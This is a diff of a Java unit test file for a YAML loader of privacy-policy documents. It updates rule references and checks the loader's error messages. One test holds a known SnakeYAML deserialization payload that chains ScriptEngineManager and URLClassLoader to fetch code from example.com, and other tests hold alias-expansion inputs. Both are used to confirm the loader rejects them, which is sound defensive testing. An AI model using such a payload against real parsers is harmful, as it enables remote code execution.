@@ -7,21 +7,14 @@ import static org.junit.jupiter.api.Assertions.assertFalse;
 import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
-import dev.policyascode.lint.Finding;
-import dev.policyascode.lint.RuleMeta;
-import dev.policyascode.lint.rules.DuplicateKey;
-import dev.policyascode.lint.rules.FileLayout;
-import dev.policyascode.lint.rules.MissingKey;
-import dev.policyascode.lint.rules.UnknownKey;
-import dev.policyascode.lint.rules.UnsafeYaml;
-import dev.policyascode.lint.rules.WrongType;
-import dev.policyascode.lint.rules.YamlSyntax;
+import dev.policyascode.diagnostics.Finding;
+import dev.policyascode.diagnostics.Position;
+import dev.policyascode.diagnostics.RuleMeta;
 import dev.policyascode.model.Contact;
 import dev.policyascode.model.DataCategory;
 import dev.policyascode.model.DataSubject;
 import dev.policyascode.model.Policy;
 import dev.policyascode.model.PolicyVersion;
-import dev.policyascode.model.Position;
 import dev.policyascode.model.Recipient;
 import java.io.ByteArrayOutputStream;
 import java.io.IOException;
@@ -121,7 +114,7 @@ class LoaderTest {
   void yesIsNotABoolean() {
     List<Finding> f =
         parse(VERSION.replace("required: true", "required: yes"), Format.VERSION_FILE);
-    Finding only = only(f, WrongType.META, 12, 15);
+    Finding only = only(f, LoadRules.WRONG_TYPE, 12, 15);
     assertTrue(
         only.message().contains("'yes' is not true or false; write true or false"), only.message());
   }
@@ -129,9 +122,14 @@ class LoaderTest {
   @Test
   void aPlainNullIsNoValue() {
     Finding f =
-        only(parse(POLICY.replace("01234 Paris", "~"), Format.POLICY), WrongType.META, 6, 12);
+        only(parse(POLICY.replace("01234 Paris", "~"), Format.POLICY), LoadRules.WRONG_TYPE, 6, 12);
     assertTrue(f.message().contains("'address' has no value"), f.message());
-    f = only(parse(POLICY.replace("01234 Paris", "null"), Format.POLICY), WrongType.META, 6, 12);
+    f =
+        only(
+            parse(POLICY.replace("01234 Paris", "null"), Format.POLICY),
+            LoadRules.WRONG_TYPE,
+            6,
+            12);
     assertTrue(f.message().contains("remove the key"), f.message());
     assertEquals(List.of(), parse(POLICY.replace("01234 Paris", "\"null\""), Format.POLICY));
   }
@@ -142,7 +140,7 @@ class LoaderTest {
   void duplicateKeyNamesBothLines() {
     List<Finding> f =
         parse(POLICY.replace("title: Privacy Policy\n", "title: A\ntitle: B\n"), Format.POLICY);
-    Finding d = only(f, DuplicateKey.META, 4, 1);
+    Finding d = only(f, LoadRules.DUPLICATE_KEY, 4, 1);
     assertTrue(d.message().contains("duplicate key 'title'"), d.message());
     assertTrue(d.message().contains("line 3"), d.message());
     assertTrue(d.message().contains("keep one"), d.message());
@@ -151,7 +149,7 @@ class LoaderTest {
   @Test
   void unknownKeySuggestsTheNearestKnownOne() {
     List<Finding> f = parse(POLICY.replace("  phone:", "  phnoe:"), Format.POLICY);
-    Finding u = only(f, UnknownKey.META, 7, 3);
+    Finding u = only(f, LoadRules.UNKNOWN_KEY, 7, 3);
     assertTrue(u.message().contains("unknown key 'phnoe'"), u.message());
     assertTrue(u.message().contains("did you mean 'phone'?"), u.message());
     assertTrue(u.message().contains("the keys allowed here are: name, address"), u.message());
@@ -160,14 +158,14 @@ class LoaderTest {
   @Test
   void listWhereTextBelongs() {
     List<Finding> f = parse(POLICY.replace("Privacy Policy", "[Privacy, Policy]"), Format.POLICY);
-    Finding w = only(f, WrongType.META, 3, 8);
+    Finding w = only(f, LoadRules.WRONG_TYPE, 3, 8);
     assertTrue(w.message().contains("expected a text for 'title', found a list"), w.message());
   }
 
   @Test
   void textWhereListBelongs() {
     List<Finding> f = parse(POLICY.replace("[en]", "en"), Format.POLICY);
-    Finding w = only(f, WrongType.META, 9, 12);
+    Finding w = only(f, LoadRules.WRONG_TYPE, 9, 12);
     assertTrue(
         w.message().contains("expected a list for 'languages', found the text 'en'"), w.message());
     assertTrue(w.message().contains("starting with '- '"), w.message());
@@ -176,27 +174,27 @@ class LoaderTest {
   @Test
   void missingRequiredKey() {
     List<Finding> f = parse(POLICY.replace("title: Privacy Policy\n", ""), Format.POLICY);
-    Finding m = only(f, MissingKey.META, 1, 1);
+    Finding m = only(f, LoadRules.MISSING_KEY, 1, 1);
     assertTrue(m.message().contains("the policy 'acme' has no 'title'; add it:"), m.message());
   }
 
   @Test
   void missingRequiredKeyInAListItemPointsAtTheItem() {
     List<Finding> f = parse(VERSION.replace("    role: processor\n", ""), Format.VERSION_FILE);
-    Finding m = only(f, MissingKey.META, 20, 5);
+    Finding m = only(f, LoadRules.MISSING_KEY, 20, 5);
     assertTrue(m.message().contains("the recipient 'nordhost' has no 'role'"), m.message());
   }
 
   @Test
   void aListAtTheTopWhereAMappingBelongs() {
-    Finding w = only(parse("- format: 1\n- id: acme\n", Format.POLICY), WrongType.META, 1, 1);
+    Finding w = only(parse("- format: 1\n- id: acme\n", Format.POLICY), LoadRules.WRONG_TYPE, 1, 1);
     assertTrue(w.message().contains("expected a mapping (policy), found a list"), w.message());
   }
 
   @Test
   void anEmptyFile() {
     for (String empty : List.of("", "\n\n", "# only a comment\n")) {
-      Finding e = only(parse(empty, Format.POLICY), MissingKey.META, 1, 1);
+      Finding e = only(parse(empty, Format.POLICY), LoadRules.MISSING_KEY, 1, 1);
       assertTrue(e.message().contains("the file is empty"), e.message());
     }
   }
@@ -210,7 +208,7 @@ class LoaderTest {
             "Privacy Policy",
             "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
                 + " [\"http://example.com/\"]]]]");
-    Finding t = only(parse(yaml, Format.POLICY), UnsafeYaml.META, 3, 8);
+    Finding t = only(parse(yaml, Format.POLICY), LoadRules.UNSAFE_YAML, 3, 8);
     assertTrue(t.message().contains("javax.script.ScriptEngineManager"), t.message());
     assertTrue(t.message().contains("remove the tag"), t.message());
   }
@@ -225,7 +223,11 @@ class LoaderTest {
             "!!set {a, b}",
             "!!omap [a: 1]")) {
       Finding t =
-          only(parse(POLICY.replace("Privacy Policy", tag), Format.POLICY), UnsafeYaml.META, 3, 8);
+          only(
+              parse(POLICY.replace("Privacy Policy", tag), Format.POLICY),
+              LoadRules.UNSAFE_YAML,
+              3,
+              8);
       assertTrue(t.message().contains("remove the tag"), tag + ": " + t.message());
     }
   }
@@ -235,13 +237,13 @@ class LoaderTest {
     String yaml = POLICY + "dpo: *boss\n";
     yaml = yaml.replace("controller:\n", "controller: &boss\n");
     List<Finding> f = parse(yaml, Format.POLICY);
-    Finding a = only(f, UnsafeYaml.META, 4, 13); // at '&boss'; the alias is the same node
+    Finding a = only(f, LoadRules.UNSAFE_YAML, 4, 13); // at '&boss'; the alias is the same node
     assertTrue(
         a.message().contains("anchors (&name) and aliases (*name) are not allowed"), a.message());
     Finding scalar =
         only(
             parse(POLICY.replace("Privacy Policy", "&t Privacy Policy"), Format.POLICY),
-            UnsafeYaml.META,
+            LoadRules.UNSAFE_YAML,
             3,
             8);
     assertTrue(scalar.message().contains("write the value out in full"), scalar.message());
@@ -262,7 +264,7 @@ class LoaderTest {
     List<Finding> f =
         assertTimeoutPreemptively(
             Duration.ofSeconds(5), () -> parse(yaml.toString(), Format.POLICY));
-    Finding b = only(f, UnsafeYaml.META, 3, 12); // the first alias, '*a0'
+    Finding b = only(f, LoadRules.UNSAFE_YAML, 3, 12); // the first alias, '*a0'
     assertTrue(b.message().contains("anchors and aliases are not allowed"), b.message());
   }
 
@@ -278,7 +280,7 @@ class LoaderTest {
         (yaml, at) -> {
           List<Finding> f =
               assertTimeoutPreemptively(Duration.ofSeconds(5), () -> parse(yaml, Format.POLICY));
-          Finding n = only(f, UnsafeYaml.META);
+          Finding n = only(f, LoadRules.UNSAFE_YAML);
           assertEquals(at, n.at().line() + ":" + n.at().column());
           assertTrue(n.message().contains("check the indentation"), n.message());
         });
@@ -292,7 +294,7 @@ class LoaderTest {
     Files.write(file, big);
     List<Finding> f = new ArrayList<>();
     assertDoesNotThrow(() -> YamlFile.read(file, "big.yaml", Format.POLICY, f::add));
-    Finding s = only(f, UnsafeYaml.META, 1, 1);
+    Finding s = only(f, LoadRules.UNSAFE_YAML, 1, 1);
     assertTrue(s.message().contains("more than the 4 MB"), s.message());
     assertTrue(s.message().contains("split it"), s.message());
   }
@@ -305,7 +307,7 @@ class LoaderTest {
     bytes.write("format: 1\ntitle: Bègles ".getBytes(UTF_8));
     bytes.write(0xff);
     bytes.write("\n".getBytes(UTF_8));
-    Finding u = only(read(bytes.toByteArray(), Format.POLICY), YamlSyntax.META, 2, 15);
+    Finding u = only(read(bytes.toByteArray(), Format.POLICY), LoadRules.YAML_SYNTAX, 2, 15);
     assertTrue(u.message().contains("save it with the UTF-8 encoding"), u.message());
   }
 
@@ -318,7 +320,7 @@ class LoaderTest {
     bytes.reset();
     bytes.write(new byte[] {(byte) 0xef, (byte) 0xbb, (byte) 0xbf});
     bytes.write(POLICY.replace("title:", "titel:").getBytes(UTF_8));
-    only(read(bytes.toByteArray(), Format.POLICY), UnknownKey.META, 3, 1);
+    only(read(bytes.toByteArray(), Format.POLICY), LoadRules.UNKNOWN_KEY, 3, 1);
   }
 
   @Test
@@ -327,7 +329,7 @@ class LoaderTest {
     assertEquals(List.of(), read(crlf.getBytes(UTF_8), Format.VERSION_FILE));
     List<Finding> f =
         read(crlf.replace("country: NO", "country: XX").getBytes(UTF_8), Format.VERSION_FILE);
-    Finding w = only(f, WrongType.META, 24, 14);
+    Finding w = only(f, LoadRules.WRONG_TYPE, 24, 14);
     assertTrue(w.message().contains("'XX' is not an ISO 3166-1 country code"), w.message());
   }
 
@@ -336,7 +338,7 @@ class LoaderTest {
     Finding t =
         only(
             parse(POLICY.replace("  name: Acme", "\tname: Acme"), Format.POLICY),
-            YamlSyntax.META,
+            LoadRules.YAML_SYNTAX,
             5,
             1);
     assertTrue(t.message().contains("indent with spaces, never tabs"), t.message());
@@ -347,14 +349,15 @@ class LoaderTest {
     Finding s =
         only(
             parse(POLICY.replace("Privacy Policy", "\"Privacy Policy"), Format.POLICY),
-            YamlSyntax.META);
+            LoadRules.YAML_SYNTAX);
     assertTrue(s.at().line() >= 3, s.at().toString());
     assertTrue(s.message().contains("quote"), s.message());
   }
 
   @Test
   void moreThanOneDocument() {
-    Finding d = only(parse(POLICY + "---\nid: other\n", Format.POLICY), YamlSyntax.META, 10, 1);
+    Finding d =
+        only(parse(POLICY + "---\nid: other\n", Format.POLICY), LoadRules.YAML_SYNTAX, 10, 1);
     assertTrue(d.message().contains("remove the '---' line"), d.message());
   }
 
@@ -377,10 +380,10 @@ class LoaderTest {
     // SnakeYAML (YAML 1.1) takes U+2028, U+2029 and U+0085 for line breaks, editors do not.
     for (String c : List.of("\u2028", "\u2029", "\u0085")) {
       String yaml = POLICY.replace("Privacy Policy", "\"Privacy" + c + "Policy\"");
-      Finding f = only(parse(yaml, Format.POLICY), YamlSyntax.META, 3, 16);
+      Finding f = only(parse(yaml, Format.POLICY), LoadRules.YAML_SYNTAX, 3, 16);
       assertTrue(f.message().contains("replace it with a line break or a space"), f.message());
-      only(parse(yaml.replace("\n", "\r\n"), Format.POLICY), YamlSyntax.META, 3, 16);
-      only(parse(yaml.replace("\n", "\r"), Format.POLICY), YamlSyntax.META, 3, 16);
+      only(parse(yaml.replace("\n", "\r\n"), Format.POLICY), LoadRules.YAML_SYNTAX, 3, 16);
+      only(parse(yaml.replace("\n", "\r"), Format.POLICY), LoadRules.YAML_SYNTAX, 3, 16);
     }
   }
 
@@ -401,7 +404,7 @@ class LoaderTest {
   @Test
   void aVersionFileWhoseNameIsNotItsId() throws IOException {
     LoadResult result = load("acme", POLICY, "2018-05-26.yaml", VERSION);
-    Finding f = only(result.findings(), FileLayout.META, 2, 10);
+    Finding f = only(result.findings(), LoadRules.FILE_LAYOUT, 2, 10);
     assertEquals("acme/versions/2018-05-26.yaml", f.at().file());
     assertTrue(
         f.message().contains("the version id '2018-05-25' is not the file's name '2018-05-26'"),
@@ -413,7 +416,7 @@ class LoaderTest {
   @Test
   void aPolicyIdThatIsNotItsFolder() throws IOException {
     LoadResult result = load("acme-corp", POLICY, "2018-05-25.yaml", VERSION);
-    Finding f = only(result.findings(), FileLayout.META, 2, 5);
+    Finding f = only(result.findings(), LoadRules.FILE_LAYOUT, 2, 5);
     assertEquals("acme-corp/policy.yaml", f.at().file());
     assertTrue(
         f.message().contains("the policy id 'acme' is not the name of its folder 'acme-corp'"),
@@ -422,9 +425,11 @@ class LoaderTest {
 
   @Test
   void findingsAreFormattedForEditorsAndCi() {
-    Finding f = only(parse(POLICY.replace("title:", "titel:"), Format.POLICY), UnknownKey.META);
+    Finding f =
+        only(parse(POLICY.replace("title:", "titel:"), Format.POLICY), LoadRules.UNKNOWN_KEY);
     assertEquals("test.yaml:3:1: error: " + f.message() + " [schema-unknown-key]", f.format());
-    Finding made = Finding.of(UnknownKey.META, new Position("p/versions/v.yaml", 12, 5), "bad");
+    Finding made =
+        Finding.of(LoadRules.UNKNOWN_KEY, new Position("p/versions/v.yaml", 12, 5), "bad");
     assertEquals("p/versions/v.yaml:12:5: error: bad [schema-unknown-key]", made.format());
   }
 
